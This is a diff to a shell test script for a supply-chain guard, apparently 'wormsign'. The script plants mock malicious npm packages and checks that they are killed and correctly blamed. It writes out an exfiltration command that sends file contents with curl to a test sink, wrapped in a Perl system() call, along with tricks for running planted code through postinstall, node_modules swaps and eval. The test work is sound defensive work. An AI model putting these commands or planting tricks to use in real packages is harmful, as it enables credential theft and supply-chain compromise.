@@ -18,9 +18,18 @@ sh_() { printf 'd=$(cat %s) && curl -s --data-binary "$d" http://%s/%s' "$RT_HOM
 	"$RT_SINK" "$1"; }
 pl() { printf 'system(q{%s});1;' "$(sh_ "$1")"; }
 USES=() WHOSE=()
+# A guest's processor is slow, and npm publish takes seconds: one row of each kind.
+left_out() {
+	[ -n "${VMTEST:-}" ] || return 1
+	case $1 in
+	l*dir-x | lhard-x | lother-x | hmoved-x | modules-x | wrapped-x) return 1 ;;
+	noformat-x | twrites-x | tlink-x | string-h) return 1 ;;
+	esac
+}
 # plants NAME LANGUAGE SCRIPT USE [WHOSE]: the postinstall SCRIPT has the code of NAME in `code`;
 # the project does USE in its prepare, and WHOSE is accused.
 plants() {
+	! left_out "$1" || return 0
 	mkdir -p "$LAB/packages/$1" && "$2" "$1" >"$LAB/packages/$1/code"
 	rt_package "$1" 1.0.0 - postinstall "$3"
 	USES+=("$4") WHOSE+=("${5:-$1}")
@@ -29,6 +38,7 @@ plants() {
 # install script. $own is its directory.
 tool() {
 	local dir=$LAB/packages/$1
+	! left_out "$1" || return 0
 	mkdir -p "$dir" && "$2" "$1" >"$dir/code"
 	printf '#!/bin/sh\nown=$(dirname "$(realpath "$0")")\n%s\n' "$3" >"$dir/tool"
 	add_tool "$1" "$1"
@@ -79,7 +89,7 @@ plants wrapped-x sh_ "(echo '#!/bin/sh'; cat code) >$AT-w && chmod 755 $AT-w" "q
 # A helper that waits puts the file in its place when the project's script has begun.
 plants waits-x sh_ "setsid sh -c 'while [ ! -e $AT-begun ]; do sleep 0.1; done; cp code $AT-wait.1;
 	mv $AT-wait.1 $AT-wait; sleep 3; rm $AT-wait' >/dev/null 2>&1 &" \
-	": >$AT-begun; for i in 1 2 3 4 5 6 7 8 9; do [ -e $AT-wait ] || sleep 0.2; done
+	": >$AT-begun; for i in 1 2 3 4 5 6 7 8 9; do [ -e $AT-wait ] || sleep 0.2; done;
 	sh $AT-wait"
 # ---- Without any script: what a shell reads.
 plants noformat-x true true "bash -c 'quiet-noformat; true'" quiet-q
@@ -105,7 +115,6 @@ plants data-h js 'cp code "$INIT_CWD/data.json"' \
 	"node -e \"eval(fs.readFileSync('./data.json', 'utf8'))\""
 tool tmodule-h js 'cp $own/code node_modules/ms/index.js' \
 	'tmodule-h; node -e "require(\"ms\")"'
-unset 'WHOSE[-1]' 'WHOSE[-1]' 'WHOSE[-1]' 'WHOSE[-1]'
 names=$(printf '%s\n' "${RT_ATTACKERS[@]%% *}" | sort)
 
 # The quiet one: no script, one tool that starts what it is told to, one without `#!`.
@@ -135,11 +144,11 @@ rt_is 'the code of each was run' "$(taken)" "$names"
 
 if rt_guarded; then
 	rt_is 'exit status' "$RT_STATUS" 86
-	rt_is 'what got through' "$(taken)" $'data-h\npipe-h\nstring-h\ntmodule-h'
+	rt_is 'what got through' "$(taken)" "$(grep -e '-h$' <<<"$names")"
 	while read -r name; do
 		rt_ok "$name is accused" rt_events wormsign.verdict=kill package.name="$name" \
 			'wormsign.effect~killed|refused'
-	done < <(printf '%s\n' "${WHOSE[@]}" | sort -u)
+	done < <(printf '%s\n' "${WHOSE[@]}" | grep -v -e '-h$' | sort -u)
 	RT_ATTACKERS+=('quiet-q 1.0.2 -' '.bin/yarn - -')
 	rt_no_innocent_accused
 	rt_no_survivors
